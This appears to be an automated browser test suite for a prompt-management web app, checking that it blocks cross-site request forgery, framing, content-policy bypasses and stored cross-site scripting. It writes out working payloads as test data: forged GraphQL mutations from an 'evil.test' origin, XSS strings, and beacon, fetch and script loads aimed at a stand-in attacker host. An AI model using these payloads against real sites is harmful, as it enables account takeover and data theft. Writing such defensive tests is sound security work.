#!/usr/bin/env node
/*
 * What another page, or somebody who stores texts, tries with the browser of
 * who is signed in: requests in their name, frames, scripts.
 */

'use strict';

const http = require('http');

const b = require('./browser.js');

const ports = {};

const heading = (page, name) =>
    page.getByRole('heading', { name, exact: true }).first().waitFor();
const count = async (table) =>
    Number((await b.sql(`SELECT count(*) FROM ${table}`))[0][0]);

const mutation = 'mutation { createPrompt(input: {name: "forged"}) { id } }';


/* a page of another origin, that does what a script of ours says */
async function stranger(page, origin) {
    await page.goto(`${origin}/page`);
}

/* how a request of the page ended: its status where that can be seen */
const ask = (page, url, init) => page.evaluate(async ([where, how]) => {
    try {
        const r = await fetch(where, { credentials: 'include', ...how });

        return `${r.type} ${r.status}`;
    } catch {
        return 'failed';
    }
}, [url, init]);

/* a form that is sent by a script: the page that comes of it */
async function submit(page, url, fields, attributes = {}) {
    await page.evaluate(([action, inputs, more]) => {
        const form = document.createElement('form');

        Object.assign(form, { method: 'post', action, ...more });

        for (const [name, value] of Object.entries(inputs)) {
            const input = document.createElement('input');

            Object.assign(input, { name, value, type: 'hidden' });
            form.append(input);
        }

        document.body.append(form);
        form.submit();
    }, [url, fields, attributes]);
    await page.waitForURL((at) => String(at).startsWith(url));
}


async function forged() {
    const json = { 'Content-Type': 'application/json' };
    const body = JSON.stringify({ query: mutation });
    const own = `http://127.0.0.1:${b.config().port}`;

    /* another site; another origin of the same site, which gets the cookie */
    for (const origin of [`http://evil.test:${ports.evil}`,
                          `http://127.0.0.1:${ports.evil}`])
    {
        await b.block(`requests of ${origin.replace(/\d+$/, 'PORT')}`,
                      async () => {
            b.expect(/CORS policy|ERR_FAILED|Failed to load resource/);
            b.expect(/Cross-Origin-Opener-Policy header has been ignored/);

            const context = await b.context();

            await b.signIn('alice', 'prompts', { context });

            const page = await context.newPage();
            const seen = [];
            const before = [await count('prompts'),
                            await b.sessionsOf('alice')];

            page.on('response', (r) => {
                if (r.url().startsWith(own)) {
                    seen.push(r.status());
                }
            });

            await stranger(page, origin);

            for (const how of [
                { method: 'POST', headers: json, body },
                { method: 'POST', body, mode: 'no-cors' },
                { method: 'POST', mode: 'no-cors', body:
                  `query=${encodeURIComponent(mutation)}`,
                  headers: { 'Content-Type':
                             'application/x-www-form-urlencoded' } },
                { method: 'POST', mode: 'no-cors',
                  headers: { 'Content-Type': 'text/plain' }, body }
            ]) {
                const r = await ask(page, `${own}/graphql`, how);

                b.ok(r === 'failed' || r === 'opaque 0',
                     `POST, ${how.mode || 'cors'}: nothing is read: ${r}`);
            }

            for (const query of [mutation, '{ me { email } }']) {
                await ask(page, `${own}/graphql?query=`
                          + encodeURIComponent(query), { mode: 'no-cors' });
                b.is(await ask(page, `${own}/graphql?query=`
                               + encodeURIComponent(query), {}), 'failed',
                     'GET: nothing is read');
            }

            /* a page that is taken for the answer, by <script> and <img> */
            await page.evaluate((url) => Promise.all(
                ['script', 'img', 'link', 'iframe', 'object'].map((name) =>
                    new Promise((done) => {
                        const element = document.createElement(name);

                        element.onload = element.onerror = done;
                        element.rel = 'stylesheet';
                        element.src = element.href = element.data = url;
                        document.body.append(element);
                        setTimeout(done, 1000);
                    }))), `${own}/graphql?query=${encodeURIComponent('{me{id}}')}`);

            for (const method of ['DELETE', 'GET', 'POST']) {
                b.is(await ask(page, `${own}/session`, {
                    method, headers: json,
                    ...(method === 'POST' ? { body: '{}' } : {})
                }), 'failed', `${method} of the session: nothing is read`);
            }

            await ask(page, `${own}/session`, {
                method: 'POST', mode: 'no-cors', body: JSON.stringify({
                    email: 'bob@example.com', password: b.password })
            });

            const form = await context.newPage();

            await stranger(form, origin);
            await submit(form, `${own}/graphql`, { query: mutation });
            b.ok(!/forged/.test(await form.content()), 'a form does nothing');
            await stranger(form, origin);
            await submit(form, `${own}/graphql`,
                         { [`{"query":${JSON.stringify(mutation)},"x":"`]:
                           '"}' }, { enctype: 'text/plain' });
            await stranger(form, origin);
            await submit(form, `${own}/session`,
                         { email: 'bob@example.com', password: b.password });

            b.is([await count('prompts'), await b.sessionsOf('alice')], before,
                 'nothing was made, nobody was signed out');
            b.ok(seen.length > 5
                 && seen.every((s) => s >= 400 && s < 500 || s === 204),
                 `all that came was refused: ${[...new Set(seen)]}`);

            const [cookie, ...more] = await context.cookies(own);

            b.is([cookie.name, more.length], ['prompt_session', 0],
                 'the cookie is the one it was');
            await page.goto(b.url('settings/account'));
            await heading(page, 'Account');
            b.ok(await page.getByRole('button',
                                      { name: 'alice@example.com' })
                     .isVisible(), 'alice is still who she was');
        });
    }
}


async function frames() {
    await b.block('frames and windows', async () => {
        b.expect(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE|Framing/);
        b.expect(/Cross-Origin-Opener-Policy header has been ignored/);
        b.expectStatus(401);

        const context = await b.context();

        await b.signIn('alice', 'prompts', { context });

        for (const origin of [`http://evil.test:${ports.evil}`,
                              `http://127.0.0.1:${ports.evil}`,
                              `http://127.0.0.1:${b.config().port}`])
        {
            const page = await context.newPage();

            await stranger(page, origin);
            await page.evaluate((url) => new Promise((done) => {
                const frame = document.createElement('iframe');

                frame.onload = done;
                frame.src = url;
                document.body.append(frame);
                setTimeout(done, 3000);
            }), b.url('settings/keys'));

            const [, frame] = page.frames();
            const text = await frame.evaluate(() => document.body.innerText)
                .catch(() => '');

            b.ok(!/API Keys/.test(text), `not in a frame of ${origin
                .replace(/\d+$/, 'PORT')}`);
        }

        const page = await context.newPage();

        await stranger(page, `http://127.0.0.1:${ports.evil}`);

        const [popup] = await Promise.all([
            context.waitForEvent('page'),
            page.evaluate((url) => { window.other = open(url); },
                          b.url('settings/keys'))
        ]);

        await popup.getByRole('heading').first().waitFor();
        b.is(await popup.evaluate(() => window.opener), null,
             'a window knows nothing of who opened it');
        await b.until(5, () => page.evaluate(() => window.other.closed));
        b.is(await page.evaluate(() => window.other.closed), true,
             'nor the other way');
    });
}


/* what the policy stops, should a text ever come to be markup */
async function policy() {
    await b.block('the policy', async () => {
        b.expect(/Content Security Policy|policy: |Trusted|trusted|ERR_BLOCKED/);

        const page = await b.signIn('alice');
        const got = [];

        b.hits.length = 0;
        await page.exposeFunction('pwned', (how) => got.push(how));

        const evil = `http://evil.test:${ports.evil}`;
        const tried = await page.evaluate(async (url) => {
            const out = {};

            /* what the debugger runs itself may eval: what comes later not */
            await new Promise((done) => setTimeout(done));

            const attempt = (name, act) => {
                try {
                    act();
                    out[name] = 'went';
                } catch (e) {
                    out[name] = e.name;
                }
            };
            const add = (name, attributes, text) => {
                const element = document.createElement(name);

                for (const [key, value] of Object.entries(attributes)) {
                    try {
                        element.setAttribute(key, value);
                    } catch {
                        out.refused = (out.refused || 0) + 1;
                    }
                }

                if (text) {
                    element.append(text);
                }

                document.body.append(element);
                return element;
            };

            attempt('innerHTML', () => {
                document.createElement('div').innerHTML
                    = '<img src=x onerror=pwned("innerHTML")>';
            });
            attempt('write', () => document.write('<script>pwned("write")'));
            attempt('eval', () => (0, eval)('pwned("eval")'));
            attempt('Function', () => new Function('pwned("Function")')());
            attempt('script.src', () => {
                document.createElement('script').src = `${url}/evil.js`;
            });
            attempt('script.text', () => {
                document.createElement('script').text = 'pwned("text")';
            });
            attempt('srcdoc', () => {
                document.createElement('iframe').srcdoc = '<script>';
            });

            document.addEventListener('click', (e) => e.stopPropagation(),
                                      { capture: true, once: true });
            add('img', { src: 'x:', onerror: 'pwned("onerror")' });
            add('svg', { onload: 'pwned("svg")' });
            add('a', { href: 'javascript:pwned("link")' }, 'x').click();
            add('link', { rel: 'stylesheet', href: `${url}/evil.css` });
            add('img', { src: `${url}/pixel?a` });
            add('base', { href: `${url}/` });
            add('object', { data: `${url}/evil` });
            add('embed', { src: `${url}/evil` });
            add('iframe', { src: `${url}/evil` });
            add('style', {}, '* { color: red !important }');
            add('div', { style: `background: url(${url}/pixel?b)` });
            add('meta', { 'http-equiv': 'refresh', content: `9;${url}` });

            const form = add('form', { action: `${url}/form`, method: 'post' });

            form.submit();
            attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, 'x'));
            attempt('worker', () => new Worker(URL.createObjectURL(
                new Blob(['postMessage(1)']))));
            out.fetch = await fetch(`${url}/fetch`, { mode: 'no-cors' })
                .then(() => 'went', (e) => e.name);
            out.socket = await new Promise((done) => {
                try {
                    const socket = new WebSocket(
                        url.replace('http', 'ws'));

                    socket.onopen = () => done('went');
                    socket.onerror = () => done('error');
                } catch (e) {
                    done(e.name);
                }
            });
            out.imported = await import(`${url}/evil.js`)
                .then(() => 'went', (e) => e.name);
            out.base = document.baseURI.startsWith(url);
            out.red = getComputedStyle(document.querySelector('h1')).color
                      === 'rgb(255, 0, 0)';

            return out;
        }, evil);

        b.is(tried, {
            innerHTML: 'TypeError', write: 'TypeError', eval: 'EvalError',
            Function: 'EvalError', 'script.src': 'TypeError',
            'script.text': 'TypeError', srcdoc: 'TypeError', refused: 4,
            beacon: 'went', worker: tried.worker, fetch: 'TypeError',
            socket: tried.socket, imported: 'TypeError', base: false,
            red: false
        }, 'what a script tries is refused');
        b.ok(tried.worker !== 'went' && tried.socket !== 'went',
             `workers and sockets, too: ${tried.worker}, ${tried.socket}`);
        await b.sleep(300);
        b.is(got, [], 'no markup became a script');
        b.is(b.hits, [], 'and no other host heard of it');
        b.is(page.url(), b.url('prompts'), 'the page is where it was');
    });
}


/* texts that would be scripts, wherever one can be stored or answered */
async function texts() {
    const evil = `http://evil.test:${ports.evil}`;
    const bad = `"'><img src=x onerror=alert(1)><script>alert(2)</script>`
                + `<svg/onload=alert(3)>{{x}}</textarea></title>`
                + `<a href="javascript:alert(4)">go</a>`
                + `<img src=${evil}/stored>`;
    const quoted = JSON.stringify(bad);
    const alice = b.config().alice_id;
    const seen = async (page, name) => {
        await page.waitForLoadState('networkidle');

        const found = await page.evaluate(() => {
            const all = [];
            const walk = (node) => {
                for (const e of node.querySelectorAll('*')) {
                    if (e.localName === 'script' && !e.src
                        || /^javascript:/i.test(e.getAttribute('href') || '')
                        || e.localName === 'img'
                        || [...e.attributes].some((a) =>
                            /^on/.test(a.name)))
                    {
                        all.push(e.outerHTML.slice(0, 100));
                    }

                    if (e.shadowRoot) {
                        walk(e.shadowRoot);
                    }
                }
            };

            walk(document);
            return all;
        });

        b.is(found, [], `${name}: it is a text`);
    };

    const post = async (query, variables) => {
        const r = await b.post(query, variables);

        if (!r.data) {
            throw new Error(`${query}: ${JSON.stringify(r)}`);
        }

        return r.data;
    };

    await b.block('texts', async () => {
        b.expectStatus(401);
        b.hits.length = 0;
        await b.sql(`UPDATE users SET name = $x$${bad.slice(0, 200)}$x$
                     WHERE id = '${alice}'`);

        const id = await b.prompt('bad one', undefined);

        await post(`mutation ($id: ID!, $d: String!) {
            updatePrompt(promptId: $id, input: {description: $d}) { id } }`,
                   { id, d: bad }).catch(() => b.sql(
            `UPDATE prompts SET description = $x$${bad}$x$
             WHERE id = '${id}'`));

        const schema = {
            type: 'object', title: bad, description: bad,
            properties: {
                x: { type: 'string', title: bad, description: bad,
                     default: bad, examples: [bad] },
                [bad.slice(0, 60)]: { type: 'string', enum: [bad, 'b'],
                                      title: bad }
            }
        };

        const said = encodeURIComponent(bad.slice(0, 60));
        const refused = encodeURIComponent(JSON.stringify(
            { error: { message: bad.slice(0, 60), type: bad.slice(0, 20) } }));

        for (const model of ['fx:ok', `fx:text=${said}`,
                             `fx:status=400,raw=${refused}`,
                             'fx:file=openai/chat.200.tool_calls.json'])
        {
            await post(`mutation ($i: CreatePromptVersionInput!) {
                createPromptVersion(input: $i) { version } }`, {
                i: { promptId: id, content: `${bad} {{x}}`, inputSchema: schema,
                     params: { model, user: bad, stop: [bad] },
                     messages: [{ role: 'SYSTEM', content: bad },
                                { placeholder: 'history' }] }
            }).catch(() => post(`mutation ($i: CreatePromptVersionInput!) {
                createPromptVersion(input: $i) { version } }`, {
                i: { promptId: id, content: `${bad} {{x}}`, inputSchema: schema,
                     params: { model, user: bad, stop: [bad] } }
            }));
            await b.execute(id, { x: bad, history: [] });
        }

        await post('mutation ($n: String!) { createApiKey(input: {name: $n}) '
                   + '{ key } }', { n: bad.slice(0, 128) });

        /* as if labels could be anything */
        await b.sql(`INSERT INTO prompt_labels (prompt_id, owner_id, label,
                                                version, set_at)
                     VALUES ('${id}', '${alice}', $x$${bad.slice(0, 60)}$x$, 1,
                             now())`).catch((e) => b.diag(e.message));

        const page = await b.signIn('alice', 'prompts', { userAgent: bad });
        const alerts = [];

        page.on('dialog', (d) => {
            alerts.push(d.message());
            void d.dismiss();
        });

        for (const where of ['prompts', 'prompts/new', `prompts/${id}`,
                             `prompts/${id}/versions`, `prompts/${id}/run`,
                             `prompts/${id}/executions`, `prompts/${id}/use`,
                             `prompts/${id}/settings`, 'overview', 'console',
                             'settings/keys', 'settings/account',
                             `prompts?search=${encodeURIComponent(bad)}`,
                             `no/such/${encodeURIComponent(bad)}`,
                             `login?next=${encodeURIComponent(
                                 'javascript:alert(5)')}`])
        {
            if (where.startsWith('no/')) {
                b.expectStatus(404);
            }

            await page.goto(b.url(where));
            await seen(page, where.replace(/[0-9a-f-]{36}/, 'ID').slice(0, 40));
            await b.shot(page, `bad-${where.replace(/[0-9a-f-]{36}/, 'ID')
                .replace(/\W+/g, '-').slice(0, 30)}`);
        }

        const rows = await b.sql(`SELECT id, status FROM executions
                                  ORDER BY id`);

        b.diag(`executions: ${rows.map((r) => r[1])}`);

        for (const [execution, status] of rows) {
            await page.goto(b.url(`prompts/${id}/executions`));
            await page.getByRole('row').nth(1).waitFor();
            await page.goto(b.url(`executions/${execution}`));
            await seen(page, `an execution: ${status}`);
        }

        /* a stream, in the form made from the schema */
        await page.goto(b.url(`prompts/${id}/run`));
        await page.getByRole('combobox', { name: 'Version or label' })
            .first().selectOption('1').catch(() => {});
        await page.getByRole('button', { name: 'Run', exact: true }).click();
        await page.waitForLoadState('networkidle');
        await b.sleep(500);
        await seen(page, 'what was streamed');
        await b.shot(page, 'bad-streamed');
        await page.goto(b.url(`prompts/${id}/versions`));
        await page.getByRole('button', { name: 'Compare' }).first().click()
            .catch(() => {});
        await seen(page, 'compared');
        b.is(alerts, [], 'nothing was run');
        b.is(b.hits, [], 'nothing was fetched');
        b.ok(quoted.length > 0 && await page.evaluate(() =>
            !document.querySelector('img')), 'no picture came to be');
    });
}


b.hits = [];

/* the other host: whoever asks is written down */
const evil = http.createServer((request, response) => {
    if (request.url !== '/page') {
        b.hits.push(request.url);
    }

    response.setHeader('Content-Type', request.url.endsWith('.js')
                                       ? 'text/javascript' : 'text/html');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end(request.url.endsWith('.js')
                 ? 'pwned("script")' : '<!doctype html><title>x</title>');
});


b.main({
    locations: `location = /page {
        default_type text/html; return 200 "<!doctype html><title>x</title>"; }
    `,
    before: () => new Promise((done) => {
        evil.listen(0, '127.0.0.1', () => {
            ports.evil = evil.address().port;
            done(null);
        });
    })
}, async () => {
    await forged();
    await frames();
    await policy();
    await texts();
    evil.close();
    evil.closeAllConnections();
});
